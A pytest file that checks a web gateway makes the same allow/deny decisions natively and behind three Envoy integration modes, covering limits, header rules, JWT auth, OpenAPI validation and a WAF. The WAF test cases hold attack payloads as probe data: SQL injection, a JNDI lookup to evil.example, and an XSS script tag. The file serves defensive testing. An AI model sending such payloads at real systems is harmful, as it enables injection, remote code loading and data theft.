"""Decision parity: for the same policy and the same request, native ``wardgate run``,
Envoy + HTTP ext_authz, Envoy + gRPC ext_authz and Envoy + ext_proc give the same
allow/deny and status (and the same reason on refusals).

Table-driven: to cover a new filter, append a :class:`ParityCase` with a policy that turns
it on and requests on both sides of its decision. Requests near a header-count or
header-size limit do not belong here: Envoy adds its own headers (``x-request-id``,
``x-forwarded-proto``, ``x-envoy-*``) before the check, see docs/envoy.md.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

import aiohttp
import pytest
import yaml

from tests.filters.jwt_authn.helpers import claims, local_provider, policy, rsa_key


@dataclass(frozen=True)
class Probe:
    method: str
    path: str
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes | None = None


@dataclass(frozen=True)
class ParityCase:
    name: str
    policy: str
    probes: tuple[Probe, ...] = field(default_factory=tuple)


CASES = [
    ParityCase(
        "default-policy",
        "",
        (
            Probe("GET", "/echo"),
            Probe("POST", "/echo", body=b'{"a": 1}'),
            Probe("TRACE", "/echo"),
            Probe("GET", "/echo?" + "q" * 9000),
        ),
    ),
    ParityCase(
        "limits",
        """
limits:
  maxUrlBytes: 256
  maxHeaderValueBytes: 128
  maxRequestBodyBytes: 1000
  allowedMethods: [GET, POST, PUT]
""",
        (
            Probe("GET", "/echo?x=1"),
            Probe("GET", "/echo?" + "x" * 300),
            Probe("DELETE", "/echo"),
            Probe("PUT", "/echo", body=b"z" * 999),
            Probe("POST", "/echo", body=b"z" * 1001),
            Probe("GET", "/echo", headers=(("x-big", "v" * 200),)),
            Probe("GET", "/echo", headers=(("x-small", "v" * 100),)),
        ),
    ),
    ParityCase(
        "headers",
        """
headers:
  request:
    add: [{name: x-added, value: "1"}]
    remove: [x-drop]
  response:
    add: [{name: x-frame-options, value: DENY}]
""",
        (
            Probe("GET", "/echo", headers=(("x-drop", "secret"),)),
            Probe("TRACE", "/echo"),
        ),
    ),
]


_KEY = rsa_key()
_OTHER_KEY = rsa_key("rsa-other")
_TOKEN = _KEY.sign(claims())

_JWT_POLICY = policy(
    {"corp": local_provider(_KEY, claimToHeaders=[{"headerName": "x-user", "claimName": "sub"}])},
    [
        {"match": {"path": "/echo/public"}, "skip": True},
        {"match": {"prefix": "/"}, "requires": {"providerName": "corp"}},
    ],
)

_OPENAPI_POLICY = yaml.safe_dump(
    {
        "openapi": {
            "rejectAdditionalProperties": True,
            "inline": {
                "openapi": "3.0.3",
                "info": {"title": "echo", "version": "1"},
                "paths": {
                    "/echo": {
                        "get": {
                            "parameters": [
                                {
                                    "name": "n",
                                    "in": "query",
                                    "schema": {"type": "integer", "maximum": 10},
                                }
                            ],
                            "responses": {"200": {"description": "ok"}},
                        },
                        "post": {
                            "requestBody": {
                                "required": True,
                                "content": {
                                    "application/json": {
                                        "schema": {
                                            "type": "object",
                                            "required": ["name"],
                                            "properties": {"name": {"type": "string"}},
                                        }
                                    }
                                },
                            },
                            "responses": {"200": {"description": "ok"}},
                        },
                    }
                },
            },
        }
    }
)
_JSON = (("content-type", "application/json"),)

CASES += [
    ParityCase(
        "jwt_authn",
        _JWT_POLICY,
        (
            Probe("GET", "/echo", headers=(("authorization", f"Bearer {_TOKEN}"),)),
            Probe("GET", "/echo"),
            Probe("GET", "/echo/public"),
            Probe("GET", "/echo", headers=(("authorization", "Bearer not.a.jwt"),)),
            Probe(
                "GET", "/echo", headers=(("authorization", f"Bearer {_OTHER_KEY.sign(claims())}"),)
            ),
            Probe(
                "GET",
                "/echo",
                headers=(("authorization", f"Bearer {_KEY.sign(claims(exp=1000))}"),),
            ),
        ),
    ),
    ParityCase(
        "openapi",
        _OPENAPI_POLICY,
        (
            Probe("GET", "/echo?n=3"),
            Probe("GET", "/echo?n=30"),
            Probe("GET", "/echo?n=abc"),
            Probe("GET", "/echo?other=1"),
            Probe("GET", "/nowhere"),
            Probe("POST", "/echo", headers=_JSON, body=b'{"name": "rex"}'),
            Probe("POST", "/echo", headers=_JSON, body=b'{"name": 5}'),
            Probe("POST", "/echo", headers=_JSON, body=b'{"name": "rex", "extra": 1}'),
            Probe("POST", "/echo", headers=_JSON, body=b"{not json"),
        ),
    ),
]


CASES += [
    ParityCase(
        "waf-default",
        "",  # the WAF is on by default, enforcing
        (
            Probe("GET", "/echo?id=42"),
            Probe("GET", "/echo?id=1%27%20OR%20%271%27%3D%271"),
            Probe("GET", "/echo", headers=(("x-api-version", "${jndi:ldap://evil.example/a}"),)),
            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "<script>alert(1)</script>"}'),
            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "Hello O\'Brien"}'),
            # Larger than a typical Envoy buffer, within the WAF's 1 MiB: inspected whole on
            # every door (the examples buffer the WAF's limit + 1).
            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "' + b"a" * 200_000 + b'"}'),
            Probe(
                "POST",
                "/echo",
                headers=(("content-type", "application/x-www-form-urlencoded"),),
                body=b"q=1%20UNION%20SELECT%20password%20FROM%20users",
            ),
        ),
    ),
    ParityCase(
        "waf-detect",
        "waf: {mode: detect}",
        (
            Probe("GET", "/echo?id=1%27%20OR%20%271%27%3D%271"),
            Probe("TRACE", "/echo"),
        ),
    ),
]


async def _status(url: str, probe: Probe) -> tuple[int, str]:
    async with aiohttp.ClientSession() as session:
        async with session.request(
            probe.method, url + probe.path, headers=dict(probe.headers), data=probe.body
        ) as resp:
            body = await resp.read()
            reason = ""
            if resp.content_type == "application/problem+json":
                reason = json.loads(body)["reason"]
            return resp.status, reason


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
async def test_same_decision_on_every_door(case, upstream, gateway, envoy_stack):
    native = await gateway(upstream, case.policy)
    grpc = await envoy_stack("ext-authz-grpc.yaml", case.policy)
    http = await envoy_stack("ext-authz-http.yaml", case.policy)
    proc = await envoy_stack("ext-proc.yaml", case.policy)
    statuses = set()
    for probe in case.probes:
        want = await _status(native.url, probe)
        statuses.add(want[0])
        assert await _status(grpc.url, probe) == want, f"gRPC ext_authz differs on {probe}"
        assert await _status(http.url, probe) == want, f"HTTP ext_authz differs on {probe}"
        assert await _status(proc.url, probe) == want, f"ext_proc differs on {probe}"
    assert 200 in statuses and len(statuses) > 1  # each case exercises allow and deny
